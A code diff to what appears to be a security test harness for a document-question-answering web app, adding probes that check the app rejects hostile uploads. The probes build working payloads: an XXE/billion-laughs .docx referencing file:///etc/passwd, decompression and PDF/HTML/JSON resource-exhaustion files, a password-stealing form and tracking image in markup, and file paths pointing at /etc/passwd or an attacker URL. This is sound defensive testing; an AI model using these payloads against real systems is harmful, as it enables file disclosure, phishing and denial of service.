@@ -14,7 +14,10 @@ import base64
 import gzip
 import json
 import os
+import random
 import re
+import subprocess
+import sys
 import tempfile
 import threading
 import time
@@ -27,7 +30,8 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
-from app_server import AppProcess, free_port, rest_call, rest_events
+from app_server import AppProcess, free_port, rest_call, rest_events, upload
+from document_files import docx_with_body, raw_pdf
 from gradio_client import Client
 from openai_server import FakeOpenAI, Reply
 
@@ -100,9 +104,13 @@ class Lab:
     public: AppProcess
     listed: AppProcess
     fair: AppProcess
+    crowd: AppProcess
+    milvus: AppProcess
+    slow: FakeOpenAI  # the crowd app's endpoint that answers once released
     folders: dict[str, Path]  # each app's own folders: {"<app>-cache": ..., "<app>-tmp": ...}
     marker: str  # in every file name a hostile request asks for
     release: threading.Event  # lets the blocker endpoint answer
+    release_slow: threading.Event  # lets the slow endpoint answer
     clients: dict[str, Client] = field(default_factory=dict)
     mark: int = 0  # how many requests the attacker endpoint had seen before the current probe
 
@@ -168,8 +176,69 @@ def start_lab(stack: ExitStack) -> Lab:
         **app_folders(stack, "fair", folders),
     }
     fair = stack.enter_context(AppProcess(fair_env))
+    # Behind a trusted proxy with four workers and the default per-address share (half of them).
+    release_slow = threading.Event()
+    stack.callback(release_slow.set)
+    slow = stack.enter_context(FakeOpenAI(handler=lambda r: (release_slow.wait(), owner_reply(r))[1]))
+    crowd_env = {
+        **env,
+        "BRAG_MODEL": owner.url + "#m",
+        "BRAG_ALLOWED_ENDPOINTS": slow.url,
+        "BRAG_TRUSTED_PROXIES": "127.0.0.1",
+        "BRAG_CONCURRENCY": "4",
+        "BRAG_REQUEST_TIMEOUT": "120",
+        **app_folders(stack, "crowd", folders),
+    }
+    crowd = stack.enter_context(AppProcess(crowd_env))
+    milvus_env = {
+        **env,
+        "BRAG_MODEL": owner.url + "#m",
+        "BRAG_REQUEST_TIMEOUT": "120",
+        "BRAG_MILVUS_URI": milvus_collection(folders, stack),
+        **app_folders(stack, "milvus", folders),
+    }
+    milvus = stack.enter_context(AppProcess(milvus_env))
     marker = f"pwned-{uuid.uuid4().hex[:8]}"
-    return Lab(owner, attacker, trickle, hostile, blocker, public, listed, fair, folders, marker, release)
+    return Lab(
+        owner,
+        attacker,
+        trickle,
+        hostile,
+        blocker,
+        public,
+        listed,
+        fair,
+        crowd,
+        milvus,
+        slow,
+        folders,
+        marker,
+        release,
+        release_slow,
+    )
+
+
+MILVUS_PASSAGES = 3_000
+
+
+def milvus_collection(folders: dict[str, Path], stack: ExitStack) -> str:
+    """A Milvus Lite file holding a collection ``brag`` of 3,000 passages of made-up words.
+
+    Milvus Lite is one process's file: the index command writes it and exits, then the app opens it.
+    """
+    folders["milvus-db"] = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="milvus-db-")))
+    uri = str(folders["milvus-db"] / "brag.db")
+    rng = random.Random(7)
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    words = ["".join(rng.choice(letters) for _ in range(rng.randint(4, 9))) for _ in range(20_000)]
+    passages = DOCS.splitlines() + [
+        " ".join(rng.choice(words) for _ in range(60)) for _ in range(MILVUS_PASSAGES - 2)
+    ]
+    source = folders["milvus-db"] / "passages.json"
+    source.write_text(json.dumps(passages))
+    command = [sys.executable, "-m", "brag", "index", str(source), "--milvus", uri, "--collection", "brag"]
+    subprocess.run(command, cwd=ROOT, check=True, capture_output=True, timeout=300)
+    return uri
 
 
 def brag_args(
@@ -201,6 +270,7 @@ class Probe:
     check: Callable[[Lab, str], str | None]  # None when it holds, else why not
     watch: str = "owner"  # the endpoint whose request count must not grow ("" for none)
     max_rss_growth: float | None = None  # MB the app's resident memory may grow by
+    max_cpu: float | None = None  # CPU seconds the app and its child processes may spend
 
 
 @dataclass
@@ -213,6 +283,7 @@ class Outcome:
     rss_before: float
     rss_after: float
     failure: str | None
+    cpu: float = 0.0  # CPU seconds the app and its child processes spent on the probe
 
 
 SECRETS = (SERVER_OPENAI_KEY, SERVER_HF_TOKEN, ENV_SECRET, URL_PASSWORD, BASIC)
@@ -255,7 +326,7 @@ def dependencies(url: str) -> list[dict[str, Any]]:
         return json.loads(page.read())["dependencies"]
 
 
-def queue_join(url: str, fn_index: int, data: list[Any], timeout: float = 60) -> str:
+def queue_join(url: str, fn_index: int, data: list[Any], timeout: float = 60, limit: int = 2000) -> str:
     """Run one event by ``fn_index`` as the page does (POST queue/join, then its SSE stream)."""
     session = uuid.uuid4().hex
     body = json.dumps({"data": data, "fn_index": fn_index, "session_hash": session}).encode()
@@ -279,7 +350,7 @@ def queue_join(url: str, fn_index: int, data: list[Any], timeout: float = 60) ->
                 output = message.get("output") or {}
                 if not message.get("success", False):
                     return f"error: {output.get('error')}"
-                return "output: " + json.dumps(output.get("data"))[:2000]
+                return "output: " + json.dumps(output.get("data"))[:limit]
     return "error: the stream ended without a result"
 
 
@@ -388,7 +459,7 @@ def local_model_refused(lab: Lab, spec: str) -> str:
     return reply + (f" · {started} worker process(es) started" if started else "")
 
 
-def upload(lab: Lab) -> str:
+def oversized_upload(lab: Lab) -> str:
     boundary = "brag-probe"
     body = (
         f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{lab.marker}.txt"\r\n'
@@ -677,6 +748,346 @@ DEMO_JSON = str(ROOT / "data" / "demo_corpus.json")
 SHIPPED_FILE = str(ROOT / "data" / "calibration_prior.json")
 
 
+# ------------------------------------------------------------------ third round (issue 32): files
+
+
+def file_data(paths: list[str]) -> list[dict[str, Any]]:
+    return [{"path": p, "meta": {"_type": "gradio.FileData"}} for p in paths]
+
+
+def ask_over_rest(
+    url: str, data: list[Any], headers: dict[str, str] | None = None, timeout: float = 150
+) -> tuple[str, list[tuple[str, str]]]:
+    """One REST call to /brag: "answer: ..." or "error: ...", and every event it streamed."""
+    event = rest_post(url, "brag", data, headers or {})
+    if not event.startswith("event: "):
+        return event, []
+    events: list[tuple[str, str]] = []
+    try:
+        with urllib.request.urlopen(
+            f"{url}gradio_api/call/brag/{event.split(': ', 1)[1]}", timeout=timeout
+        ) as feed:
+            kind = None
+            for raw in feed:
+                line = raw.decode(errors="replace").strip()
+                if line.startswith("event:"):
+                    kind = line.split(":", 1)[1].strip()
+                elif line.startswith("data:") and kind:
+                    events.append((kind, line[5:].strip()))
+                    if kind == "complete":
+                        return f"answer: {json.loads(events[-1][1])[0]}", events
+                    if kind == "error":
+                        return f"error: {events[-1][1][:400]}", events
+    except TimeoutError:
+        return f"waiting: no result within {timeout:g} s", events
+    return "error: no result", events
+
+
+def ask_files(
+    url: str, files: list[tuple[str, bytes]], question: str = QUESTION, headers: dict[str, str] | None = None
+) -> str:
+    """Upload files as a REST caller does, then ask /brag over them."""
+    paths = []
+    for name, data in files:
+        status, path = upload(url, name, data, headers)
+        if status != 200:
+            return f"error: upload answered HTTP {status}: {path[:200]}"
+        paths.append(path)
+    data = [*brag_args(question, documents=""), "tokens", None, None, file_data(paths)]
+    return ask_over_rest(url, data, headers)[0]
+
+
+SHARED_STREAM = b"q Q " * 600_000 + b"BT /F1 12 Tf (Lina Berg was born in Bergen.) Tj ET"
+
+
+def shared_stream_pdf() -> bytes:
+    """A 10 kB, 20-page PDF whose pages share one content stream of 1.2 million cheap operations."""
+    return raw_pdf(20, SHARED_STREAM)
+
+
+def slow_pdf() -> bytes:
+    """A one-page PDF of 900,000 cheap operations: within every bound, and seconds of CPU to read."""
+    return raw_pdf(1, b"q Q " * 450_000 + SHARED_STREAM[-60:])
+
+
+def abandoned_read(lab: Lab) -> str:
+    """A caller uploads slow PDFs, asks, and hangs up once the reading has started."""
+    url, pid = lab.public.url, lab.public.proc.pid
+    paths = [upload(url, f"slow{i}.pdf", slow_pdf())[1] for i in range(6)]
+    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
+    event = rest_post(url, "brag", data, {})
+    if not event.startswith("event: "):
+        return event
+    feed = urllib.request.urlopen(f"{url}gradio_api/call/brag/{event.split(': ', 1)[1]}", timeout=30)
+    started = tree_cpu(pid)
+    wait_until = time.monotonic() + 30
+    while tree_cpu(pid) - started < 1.0 and time.monotonic() < wait_until:
+        time.sleep(0.1)  # the reading is under way
+    feed.close()  # the caller hangs up
+    left = time.monotonic()
+    while children_reading(pid) and time.monotonic() - left < 20:
+        time.sleep(0.1)
+    gone_after = time.monotonic() - left
+    before = tree_cpu(pid)
+    time.sleep(5)
+    return (
+        f"reading still running {gone_after:.1f} s after the caller left: {children_reading(pid)} worker(s); "
+        f"CPU in the next 5 s: {tree_cpu(pid) - before:.2f} s"
+    )
+
+
+def children_reading(pid: int) -> int:
+    """How many of ``pid``'s children are file-reading workers."""
+    count = 0
+    for task in Path(f"/proc/{pid}/task").glob("*/children"):
+        for child in task.read_text().split():
+            try:
+                if b"parse_worker" in Path(f"/proc/{child}/cmdline").read_bytes():
+                    count += 1
+            except OSError:
+                continue
+    return count
+
+
+def stopped_reading(lab: Lab, response: str) -> str | None:
+    workers = int(response.split(": ", 1)[1].split()[0])
+    cpu = float(response.rsplit(": ", 1)[1].split()[0])
+    if workers or cpu > 1.0:
+        return f"the reading went on after the caller left ({response})"
+    return None
+
+
+def read_past_the_deadline(lab: Lab) -> str:
+    """Slow PDFs that take longer to read than the public app's whole request may."""
+    pid = lab.public.proc.pid
+    reply = ask_files(lab.public.url, [(f"slow{i}.pdf", slow_pdf()) for i in range(4)])
+    before = tree_cpu(pid)
+    time.sleep(3)
+    after = tree_cpu(pid) - before
+    return f"{reply[:200]} · then {children_reading(pid)} worker(s), CPU in the next 3 s: {after:.2f} s"
+
+
+def parses_at_once(lab: Lab) -> str:
+    """Four callers read slow files at once; the server's health check is timed meanwhile (reported)."""
+    url = lab.crowd.url
+    callers = [
+        threading.Thread(
+            target=ask_files, args=(url, [("ops.pdf", shared_stream_pdf())], QUESTION, via(f"192.0.2.{i}"))
+        )
+        for i in range(4)
+    ]
+    for caller in callers:
+        caller.start()
+    time.sleep(1)  # the reading is under way
+    seconds, answered = [], 0
+    for _ in range(10):
+        started = time.monotonic()
+        with urllib.request.urlopen(url + "gradio_api/info", timeout=30) as reply:
+            answered += reply.status == 200
+        seconds.append(time.monotonic() - started)
+        time.sleep(0.2)
+    for caller in callers:
+        caller.join(120)
+    seconds.sort()
+    return f"health check: {answered} of 10 answered, median {seconds[4]:.3f} s, slowest {seconds[-1]:.3f} s"
+
+
+def deadline_held(lab: Lab, response: str) -> str | None:
+    why = error_matching("time limit")(lab, response)
+    if why is None and (
+        " 0 worker(s)" not in response or float(response.rsplit(": ", 1)[1].split()[0]) > 1.0
+    ):
+        why = f"the reading outlived the deadline ({response[-80:]})"
+    return why
+
+
+def many_nonexistent_files(lab: Lab) -> str:
+    folder = lab.folders["public-tmp"]
+    before = sum(len(files) for _, _, files in os.walk(folder))
+    paths = [str(folder / f"{lab.marker}-{i}" / "x.txt") for i in range(100_000)]
+    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
+    reply = ask_over_rest(lab.public.url, data)[0]
+    after = sum(len(files) for _, _, files in os.walk(folder))
+    return f"{reply[:200]} · files in the upload folder: {before} before, {after} after"
+
+
+def nothing_left_behind(lab: Lab, response: str) -> str | None:
+    before, after = re.findall(r"(\d+) before, (\d+) after", response)[0]
+    return error_matching("BRAG_MAX_FILES")(lab, response) or (
+        None if before == after else f"the request left files behind: {before} -> {after}"
+    )
+
+
+def url_as_file(lab: Lab) -> str:
+    """A FileData whose path is a URL of a server the caller controls (the attacker endpoint)."""
+    target = lab.attacker.url.rsplit("/v1", 1)[0] + "/big.bin"
+    files = [{"path": target, "url": target, "meta": {"_type": "gradio.FileData"}}]
+    return ask_over_rest(lab.public.url, [*brag_args(documents=""), "tokens", None, None, files])[0]
+
+
+def upload_served_back(lab: Lab) -> str:
+    payload = os.urandom(1_000_000)
+    status, path = upload(lab.public.url, f"{lab.marker}.bin", payload)
+    if status != 200:
+        return f"error: the upload was refused: HTTP {status}"
+    try:
+        with urllib.request.urlopen(f"{lab.public.url}gradio_api/file={path}", timeout=30) as reply:
+            body = reply.read()
+            same = "the same bytes" if body == payload else f"{len(body)} other bytes"
+            return f"GET file= answered HTTP {reply.status} with {same}"
+    except urllib.error.HTTPError as err:
+        return f"error: GET file= answered HTTP {err.code}"
+
+
+def upload_burst(lab: Lab) -> str:
+    """One caller (behind the trusted proxy) uploads 30 files of 4 MB, never asking; then another one."""
+    chunk = os.urandom(4 * MB)
+    statuses = [upload(lab.crowd.url, f"hoard{i}.bin", chunk, via("203.0.113.50"))[0] for i in range(30)]
+    other, _ = upload(lab.crowd.url, "mine.bin", chunk, via("198.51.100.60"))
+    return (
+        f"caller A: {statuses.count(200)} of 30 stored ({statuses.count(200) * 4} MB), "
+        f"{len(statuses) - statuses.count(200)} refused · caller B: HTTP {other}"
+    )
+
+
+def upload_share_held(lab: Lab, response: str) -> str | None:
+    stored = int(response.split(": ", 1)[1].split()[0])
+    if stored * 4 > 20:
+        return f"one caller stored more than its 20 MB share ({response})"
+    return None if "caller B: HTTP 200" in response else f"another caller could not upload ({response})"
+
+
+def crowded_workers(lab: Lab) -> str:
+    """Four workers; one address sends twelve slow requests (twelve sessions), then another asks."""
+    url = lab.crowd.url
+    slow = brag_args(model=lab.slow.url + "#m")
+    answered: list[str] = []
+    b = threading.Thread(
+        target=lambda: answered.append(ask_over_rest(url, brag_args(), via("198.51.100.71"))[0])
+    )
+    try:
+        held = [rest_post(url, "brag", slow, via("203.0.113.70")) for _ in range(12)]
+        wait_for(lambda: len(lab.slow.chat_requests) >= 1, "A's first request to reach its endpoint")
+        time.sleep(2)  # the rest of A's requests take what workers they can
+        running = len(lab.slow.chat_requests)
+        b.start()
+        b.join(30)  # A's requests are held until released: B's answer has to come while they are
+        answered.append("no answer within 30 s while A's requests were held")
+    finally:
+        lab.release_slow.set()
+        if b.is_alive():
+            b.join(60)
+    outcomes = [rest_result(url, "brag", e, timeout=60) for e in held]
+    busy = sum("Busy" in o for o in outcomes)
+    return f"A held {running} worker(s), {busy} of 12 refused busy · B: {answered[0][:80]}"
+
+
+def long_question_over_milvus(lab: Lab) -> str:
+    """A 566-word question of new words over a 3,000-passage Milvus collection, with a gate."""
+    rng = random.Random(11)
+    words = {"".join(rng.choice("bcdfghjklmnpqrstvwxz") for _ in range(5)) for _ in range(700)}
+    question = " ".join(sorted(words)[:566])[:4_000]
+    data = [question, "brag", "", 0.05, "", "", "auto", "qwen2.5-coder-0.5b-hotpotqa"]
+    return ask_over_rest(lab.milvus.url, data)[0][:200] + f" · {len(question)} characters"
+
+
+def owner_request_sizes(lab: Lab) -> str:
+    """A passage file with a 4.8 MB title and one with a 2.9 MB passage, then a question."""
+    seen = len(lab.owner.requests)
+    title = json.dumps([{"title": "T" * 4_800_000, "text": DOCS.splitlines()[0]}]).encode()
+    passage = json.dumps([{"title": "Lina Berg", "text": DOCS.splitlines()[1] + " x" * 1_450_000}]).encode()
+    paths = [upload(lab.public.url, n, d)[1] for n, d in (("title.json", title), ("long.json", passage))]
+    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
+    reply, events = ask_over_rest(lab.public.url, data)
+    sizes = [len(json.dumps(r)) for r in lab.owner.requests[seen:]]
+    stream = sum(len(d) for _, d in events)
+    largest = max(sizes, default=0)
+    return f"{reply[:80]} · largest request to the owner's model: {largest:,} bytes; events: {stream:,} bytes"
+
+
+def bounded_requests(lab: Lab, response: str) -> str | None:
+    largest, stream = (int(n.replace(",", "")) for n in re.findall(r"([\d,]+) bytes", response))
+    if not response.startswith("answer:"):
+        return f"no answer: {response[:200]}"
+    if largest > 80_000 or stream > 500_000:
+        return f"a title or passage reached the model or the caller whole ({response})"
+    return None
+
+
+HOSTILE_MARKUP = (
+    '<img src="http://127.0.0.1:9/track.png" style="position:fixed;inset:0"> '
+    '<form action="http://127.0.0.1:9/steal"><input name="password"><button>Sign in</button></form>'
+)
+
+
+def markup_in_titles(lab: Lab) -> str:
+    """Headings and passage titles holding markup, then the page's render of the answer."""
+    markdown = f"# Notes {HOSTILE_MARKUP}\n\n{DOCS.splitlines()[1]}\n".encode()
+    titled = json.dumps([{"title": f"Glass {HOSTILE_MARKUP}", "text": DOCS.splitlines()[0]}]).encode()
+    paths = [upload(lab.public.url, n, d)[1] for n, d in (("notes.md", markdown), ("tower.json", titled))]
+    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
+    event = rest_post(lab.public.url, "brag", data, {})
+    result = rest_call_result(lab.public.url, event)
+    if not isinstance(result, list):
+        return f"error: {result}"
+    reply = queue_join(lab.public.url, fn_index_of(lab, "public", "render"), result, limit=200_000)
+    if not reply.startswith("output: "):
+        return reply
+    from markdown_it import MarkdownIt
+
+    headline = json.loads(reply[len("output: ") :])[1]
+    page = MarkdownIt("commonmark").render(headline if isinstance(headline, str) else headline["value"])
+    tags = sorted({t for t in ("<img", "<form", "<input", "<button") if t in page})
+    return f"the answer panel holds {', '.join(tags) if tags else 'no tag from the documents'}"
+
+
+def rest_call_result(url: str, event: str) -> Any:
+    if not event.startswith("event: "):
+        return event
+    with urllib.request.urlopen(f"{url}gradio_api/call/brag/{event.split(': ', 1)[1]}", timeout=120) as feed:
+        kind = None
+        for raw in feed:
+            line = raw.decode(errors="replace").strip()
+            if line.startswith("event:"):
+                kind = line.split(":", 1)[1].strip()
+            elif line.startswith("data:") and kind in ("complete", "error"):
+                return json.loads(line[5:]) if kind == "complete" else line[5:200]
+    return "no result"
+
+
+def index_command_on_odd_files(lab: Lab) -> str:
+    """``python -m brag index`` over a FIFO, a link to /dev/zero, a sparse 2 GB file and a real one."""
+    with tempfile.TemporaryDirectory() as folder:
+        docs = Path(folder)
+        os.mkfifo(docs / "pipe.txt")
+        (docs / "zero.txt").symlink_to("/dev/zero")
+        with open(docs / "huge.txt", "wb") as huge:
+            huge.truncate(2_000_000_000)
+        (docs / "ok.txt").write_text(DOCS)
+        names = ["pipe.txt", "zero.txt", "huge.txt", "ok.txt"]
+        try:
+            done = subprocess.run(
+                [sys.executable, "-m", "brag", "index", *names, str(docs / "out")],
+                cwd=docs,
+                env={**os.environ, "PYTHONPATH": str(ROOT)},
+                capture_output=True,
+                text=True,
+                timeout=60,
+            )
+        except subprocess.TimeoutExpired:
+            return "error: hung; killed after 60 s"
+    skipped = [line.split("skipped ", 1)[1][:90] for line in done.stderr.splitlines() if "skipped " in line]
+    return f"exit {done.returncode}; " + "; ".join(skipped)
+
+
+def odd_files_refused(lab: Lab, response: str) -> str | None:
+    if not response.startswith("exit 0;"):
+        return f"the index command failed: {response[:200]}"
+    wanted = ("pipe.txt: not a regular file", "zero.txt: not a regular file", "huge.txt: 2,000,000,000 bytes")
+    missing = [w for w in wanted if w not in response]
+    return f"not reported: {missing}" if missing else None
+
+
 def probes() -> list[Probe]:
     """Every finding, as a probe."""
     return [
@@ -956,7 +1367,7 @@ def probes() -> list[Probe]:
             "upload route: a file past BRAG_MAX_FILE_BYTES to /gradio_api/upload",
             "POST /gradio_api/upload, one file of 5,000,001 bytes (the limit is 5,000,000)",
             "public",
-            upload,
+            oversized_upload,
             nothing_uploaded,
         ),
         Probe(
@@ -1042,6 +1453,218 @@ def probes() -> list[Probe]:
             lambda lab: call(lab, "public", brag_args(documents="😀😀😀\n\0\0\0")),
             error_matching("nothing to search"),
         ),
+        # ---------------------------------------------------------- third round (issue 32)
+        Probe(
+            "1 docx: a 95 kB .docx whose document.xml inflates to 42 MB of empty elements",
+            "upload bomb.docx (7,000,000 <w:x/>, 95 kB packed), /brag over it",
+            "public",
+            lambda lab: ask_files(lab.public.url, [("bomb.docx", docx_with_body(b"<w:x/>" * 7_000_000))]),
+            error_matching(r"bomb\.docx: .*(inflates|BRAG_PARSE_MEMORY_MB|elements)"),
+            max_rss_growth=100,
+            max_cpu=10,
+        ),
+        Probe(
+            "2 docx: 50,000 empty paragraphs (35 kB)",
+            "upload empty.docx (50,000 <w:p/>), /brag over it",
+            "public",
+            lambda lab: ask_files(lab.public.url, [("empty.docx", docx_with_body(b"<w:p/>" * 50_000))]),
+            error_matching(r"empty\.docx: no text found"),
+            max_cpu=5,
+        ),
+        Probe(
+            "3 pdf: 20 pages sharing one content stream of 1.2 million cheap operations (10 kB)",
+            "upload ops.pdf, /brag over it (an app with a 120 s deadline)",
+            "crowd",
+            lambda lab: ask_files(lab.crowd.url, [("ops.pdf", shared_stream_pdf())]),
+            error_matching(r"ops\.pdf: more than [\d,]+ drawing operations"),
+            max_rss_growth=100,
+            max_cpu=15,
+        ),
+        Probe(
+            "3 pdf: the reading ends when the caller hangs up",
+            "6 slow PDFs (900,000 operations each), then the REST stream closed once reading started",
+            "public",
+            abandoned_read,
+            stopped_reading,
+            watch="",
+        ),
+        Probe(
+            "3 pdf: the reading ends at the request's deadline (6 s here)",
+            "4 slow PDFs (900,000 operations each)",
+            "public",
+            read_past_the_deadline,
+            deadline_held,
+            max_cpu=12,  # four files read whole take about 10 s; the deadline comes at 6
+        ),
+        Probe(
+            "3 pdf: four callers' hostile PDFs at once, and the health check meanwhile",
+            "4 callers' ops.pdf (finding 3's file) at once, GET /gradio_api/info ten times meanwhile",
+            "crowd",
+            parses_at_once,
+            lambda lab, r: None if r.startswith("health check: 10 of 10 answered") else r,
+            watch="",
+        ),
+        Probe(
+            "3 pdf: ten pages of 7 MB whitespace streams (70 kB packed)",
+            "upload spaces.pdf, /brag over it (an app with a 120 s deadline)",
+            "crowd",
+            lambda lab: ask_files(
+                lab.crowd.url,
+                [("spaces.pdf", raw_pdf(10, b" " * 7_000_000 + SHARED_STREAM[-60:], shared=False))],
+            ),
+            error_matching(r"spaces\.pdf: more than [\d,]+ bytes of page content"),
+            max_rss_growth=100,
+            max_cpu=15,
+        ),
+        Probe(
+            "4 html: 20,000 nested <blockquote> elements, a word in each (540 kB)",
+            "upload nested.html, /brag over it",
+            "public",
+            lambda lab: ask_files(
+                lab.public.url,
+                [("nested.html", ("<blockquote>w " * 20_000 + "</blockquote>" * 20_000).encode())],
+            ),
+            error_matching(r"nested\.html: HTML nested more than 512"),
+            max_rss_growth=100,
+            max_cpu=5,
+        ),
+        Probe(
+            "5 FileData: a path that is a URL of a server the caller controls",
+            'files=[{"path": "http://<attacker>/big.bin"}]',
+            "public",
+            url_as_file,
+            error_matching("never read"),
+            watch="attacker",
+        ),
+        Probe(
+            "6 markdown: 4.8 MB of '# h' lines",
+            "upload heads.md (1,200,000 headings), /brag over it",
+            "public",
+            lambda lab: ask_files(lab.public.url, [("heads.md", b"# h\n" * 1_200_000)]),
+            error_matching(r"heads\.md: no text found"),
+            max_rss_growth=100,
+            max_cpu=20,
+        ),
+        Probe(
+            "6 markdown: 4.8 MB of '![' repeated",
+            "upload images.md (2,400,000 '!['), /brag over it",
+            "public",
+            lambda lab: ask_files(lab.public.url, [("images.md", b"![" * 2_400_000)]),
+            lambda lab, r: None if r.startswith(("answer:", "error:")) else r,
+            watch="",
+            max_rss_growth=100,
+            max_cpu=20,
+        ),
+        Probe(
+            "7 size: a passage file with a 4.8 MB title and one with a 2.9 MB passage",
+            "upload title.json and long.json, /brag over them",
+            "public",
+            owner_request_sizes,
+            bounded_requests,
+            watch="",
+        ),
+        Probe(
+            "8 markup: headings and passage titles holding <img style>, <form>, <input>",
+            "upload notes.md and tower.json, /brag, then the page's render event",
+            "public",
+            markup_in_titles,
+            lambda lab, r: None if r.endswith("no tag from the documents") else r,
+            watch="",
+        ),
+        Probe(
+            "9 FileData: 100,000 paths in the upload folder that do not exist",
+            "files=[100,000 FileData]",
+            "public",
+            many_nonexistent_files,
+            nothing_left_behind,
+        ),
+        Probe(
+            "10 hosting: an upload no question used, fetched back at /gradio_api/file=",
+            "upload 1 MB of random bytes, then GET /gradio_api/file=<path>",
+            "public",
+            upload_served_back,
+            error_matching("HTTP 403"),
+        ),
+        Probe(
+            "11 hoarding: one caller uploads 30 files of 4 MB and never asks",
+            "A: 30 uploads via X-Forwarded-For, then B: one upload",
+            "crowd",
+            upload_burst,
+            upload_share_held,
+        ),
+        Probe(
+            "12 fairness: BRAG_CONCURRENCY=4, one address sends 12 slow requests, another asks",
+            "A: 12 REST calls to a slow endpoint (12 sessions), then B: one question",
+            "crowd",
+            crowded_workers,
+            lambda lab, r: None if "B: answer: Bergen" in r else f"B was not answered: {r}",
+            watch="",
+        ),
+        Probe(
+            "13 Milvus: a 566-word question of new words with a calibrated gate",
+            "question of 566 words, corpus=brag (3,000 passages), calibration with a gate",
+            "milvus",
+            long_question_over_milvus,
+            lambda lab, r: None if r.startswith("answer:") else r,
+            watch="",
+            max_cpu=20,
+        ),
+        Probe(
+            "14 small: a passage file nested 100,000 deep",
+            "upload deep.json ([[[...]]]), /brag over it",
+            "public",
+            lambda lab: ask_files(lab.public.url, [("deep.json", b"[" * 100_000 + b"]" * 100_000)]),
+            error_matching("nested too deeply", absent=("RecursionError", "Internal error")),
+        ),
+        Probe(
+            "14 small: price_in = 5e-324",
+            "cost=usd, price_in=5e-324, price_out=0",
+            "public",
+            lambda lab: call(lab, "public", [*brag_args(), "usd", 5e-324, 0]),
+            error_matching("prices must be 0 or lie between", absent=("ZeroDivisionError", "Internal error")),
+        ),
+        Probe(
+            "14 small: python -m brag index over a FIFO, a link to /dev/zero and a 2 GB file",
+            "index pipe.txt zero.txt huge.txt ok.txt",
+            "public",
+            index_command_on_odd_files,
+            odd_files_refused,
+        ),
+        Probe(
+            "held: a .docx with a DTD and an entity (XXE, billion laughs)",
+            "upload laughs.docx (<!DOCTYPE> with entities), /brag over it",
+            "public",
+            lambda lab: ask_files(
+                lab.public.url,
+                [
+                    (
+                        "laughs.docx",
+                        docx_with_body(
+                            b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>",
+                            b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol "lol">'
+                            + b"".join(
+                                b'<!ENTITY lol%d "%s">'
+                                % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
+                                for i in range(1, 10)
+                            )
+                            + b'<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+                        ),
+                    )
+                ],
+            ),
+            error_matching(r"laughs\.docx: .*DTD", absent=("root:",)),
+            max_rss_growth=50,
+        ),
+        Probe(
+            "held: FileData with a file:// path",
+            'files=[{"path": "file:///etc/passwd"}]',
+            "public",
+            lambda lab: ask_over_rest(
+                lab.public.url,
+                [*brag_args(documents=""), "tokens", None, None, file_data(["file:///etc/passwd"])],
+            )[0],
+            error_matching("never read", absent=("root:",)),
+        ),
     ]
 
 
@@ -1049,25 +1672,47 @@ def requests_seen(lab: Lab, watch: str) -> int:
     return len(getattr(lab, watch).requests) if watch else 0
 
 
-def run(lab: Lab) -> list[Outcome]:
-    """Every probe in turn; after each, the server that took it must still answer a question."""
+def run(lab: Lab, chosen: Callable[[str], bool] = lambda finding: True) -> list[Outcome]:
+    """Every (chosen) probe in turn; after each, the server that took it must still answer a question."""
     outcomes = []
     for probe in probes():
+        if not chosen(probe.finding):
+            continue
         app = getattr(lab, probe.app)
         before_rss, before_seen = rss_mb(app.proc.pid), requests_seen(lab, probe.watch)
+        before_cpu = tree_cpu(app.proc.pid)
         lab.mark = len(lab.attacker.headers)
         started = time.monotonic()
         response = probe.send(lab)
         seconds = time.monotonic() - started
+        spent = tree_cpu(app.proc.pid) - before_cpu
         failure = probe.check(lab, response)
         if probe.watch and requests_seen(lab, probe.watch) != before_seen:
             failure = failure or f"the {probe.watch} endpoint received a request"
         growth = rss_mb(app.proc.pid) - before_rss
         if failure is None and probe.max_rss_growth is not None and growth > probe.max_rss_growth:
             failure = f"the app's memory grew by {growth:.0f} MB"
+        if failure is None and probe.max_cpu is not None and spent > probe.max_cpu:
+            failure = f"the app and its workers spent {spent:.1f} s of CPU"
         if failure is None and not call(lab, probe.app, brag_args()).startswith("answer: Bergen"):
             failure = "the server stopped answering"
         if failure is None and not app.alive():
             failure = "the server died"
-        outcomes.append(Outcome(probe, response, seconds, before_rss, rss_mb(app.proc.pid), failure))
+        outcomes.append(Outcome(probe, response, seconds, before_rss, rss_mb(app.proc.pid), failure, spent))
     return outcomes
+
+
+def tree_cpu(pid: int) -> float:
+    """CPU seconds of a process, the children it has reaped, and every descendant still running."""
+    try:
+        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+    except OSError:
+        return 0.0  # it ended meanwhile: its parent counts it once reaped
+    ticks = sum(int(f) for f in fields[11:15])  # utime, stime, cutime, cstime
+    total = ticks / os.sysconf("SC_CLK_TCK")
+    for task in Path(f"/proc/{pid}/task").glob("*/children"):
+        try:
+            total += sum(tree_cpu(int(child)) for child in task.read_text().split())
+        except OSError:
+            continue
+    return total
